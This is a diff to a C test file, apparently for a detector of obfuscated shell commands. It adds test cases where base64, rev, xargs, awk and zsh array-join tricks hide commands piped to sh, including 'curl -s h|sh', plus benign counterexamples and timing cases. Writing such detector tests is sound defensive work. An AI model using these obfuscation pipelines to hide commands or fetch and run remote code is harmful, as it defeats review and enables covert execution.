@@ -257,6 +257,45 @@ static const struct hidden good[] = {
 		"paste -sd \"\" <<< \"aWQ7dw==\" | base64 -d | sh" },
 	{ "head+base64", "id;w",
 		"head -c 8 <<< aWQ7dw==garbage | base64 -d | sh" },
+	/* The here-string's newline is its last byte. */
+	{ "reverse+base64", "id;w",
+		"rev <<< ==wd7QWa|head -c -1|base64 -d|sh" },
+	{ "head+base64", "id;w", "head -c -3 <<< aWQ7dw==xx|base64 -d|sh" },
+	{ "tail+base64", "id;w", "tail -c 9 <<< xxaWQ7dw==|base64 -d|sh" },
+	{ "tail+head+base64", "id;w",
+		"printf 'x\\naWQ7dw==\\nx'|tail -n +2|head -n -1|base64 "
+		"-d|sh" },
+	/* xargs alone is echo, and by pieces it is run again and again. */
+	{ "reverse+tr+base64", "id;w",
+		"echo w== 7d aWQ|xargs -n1|tac|tr -d '\\n'|base64 -d|sh" },
+	{ "reverse+tr+base64", "id;w",
+		"echo w== 7d aWQ|xargs -n 1 echo|tac|tr -d '\\n'|base64 "
+		"-d|sh" },
+	{ "reverse+tr+base64", "id;w",
+		"printf '%s\\n' 'd w==' 'aW Q7'|xargs -L1|tac|tr -d ' \\n'|"
+		"base64 -d|sh" },
+	/* Nothing behind \c is written, nor a newline. */
+	{ "base64", "id;w", "{ echo -e 'aWQ7\\c' x;echo dw==;}|base64 -d|sh" },
+	{ "printf", "id;w", "echo -e '\\0151\\0144\\073\\0167\\cx' x|sh" },
+	{ "printf", "id;w",
+		"printf '%b x' '\\0151\\0144\\073\\0167\\c x' y|sh" },
+	/* What is in awk's BEGIN alone reads nothing; gsub changes its third.
+	 */
+	{ "base64", "id;w",
+		"awk 'BEGIN{s=\"aW~Q71~d~w==\";gsub(/[0-9]?~/,\"\",s);printf "
+		"\"%s\",s}'|base64 -d|sh" },
+	{ "base64", "id;w",
+		"echo x|awk '{s=\"a#WQ7#dw==\";gsub(/#/,\"\",s);print "
+		"s}'|base64 "
+		"-d|sh" },
+	{ "base64", "id;w",
+		"echo 'x#aWQ7~dw=~='|awk '{gsub(/~/,\"\");gsub(/#/,\" \");"
+		"print $2}'|base64 -d|sh" },
+	{ "base64", "iptables -S; echo",
+		"a=(aXB0YWJsZXM gLVM7IGVjaG8=);eval \"$(base64 -d <<< "
+		"${(j::)a})\"" },
+	{ "join", "curl -s h|sh",
+		"a=(cu rl\\ -s\\ h '|sh');eval \"${(j..)a}\"" },
 	{ "base64", "id;w", "set -- aWQ7dw==; echo $1 | base64 -d | sh" },
 	{ "base64", "id;w", "sh -c 'echo $0 | base64 -d | sh' aWQ7dw==" },
 	{ "reverse+base64", "id;w",
@@ -311,6 +350,11 @@ static const char *const not [] = { "t=curl; $t -o /tmp/x$t h",
 	"for i in 1 2 3; do echo $i; done", "printf '%s\\n' a b c | tac",
 	"echo 'a b c' | awk '{print $2}'", "date +%s | sha256sum | head -c 32",
 	"echo -e '\\033[31mred\\033[0m'", "printf '\\n'", "echo y | bash x.sh",
+	"ls|xargs -n1|tac", "echo a b c|xargs -n1|tac",
+	"seq 3|xargs -L1|tr -d '\\n'", "git ls-files|xargs -n1 dirname|sort -u",
+	"awk 'BEGIN{s=\"a-b\";gsub(/-/,\"\",s);print s}'",
+	"awk 'BEGIN{FS=\":\"}{gsub(/-/,\"\",$1);print}'|sh",
+	"a=(b c);echo ${(j:,:)a} ${(U)a}", "echo ${(j", "echo ${(j:}",
 	"sed 's/a/b/' <<< banana", "echo foo | xargs echo",
 	"v=1.2.3; echo ${v%.*}; echo ${v//./-}", "base64 -d <<< '####'",
 	"trap 'sort /tmp/a | rev' EXIT", "alias l='ls | tail -n 3'",
@@ -375,6 +419,11 @@ static void test_time(void)
 		{ "", "x=aaaaaaaaaaaaaaa;", "echo $x$x$x|base64 -d|sh" },
 		{ "x=", "ab", ";echo ${x//ab/abab}${x//a/bbbb}|rev|sh" },
 		{ "echo ", "a ", "|xargs printf %s|xargs -n1 echo|sh" },
+		{ "echo ", "a ", "|xargs -n1|tac|base64 -d|sh" },
+		{ "echo ", "a ", "|xargs -L1|tac|base64 -d|sh" },
+		{ "", "awk 'BEGIN{gsub(/a/,x,x)}'|sh;", "" },
+		{ "echo aaaa|awk '{", "gsub(/a/,\"b\");", "print}'|sh" },
+		{ "a=(b c);eval ", "${(j:::)a}${(j", "" },
 		{ "", "bash -c 'echo x|rev';", "" },
 		{ "eval ", "'echo YQ==|base64 -d';", "" },
 		{ "", "while :;do x=$x$x;done;", "eval $x" },
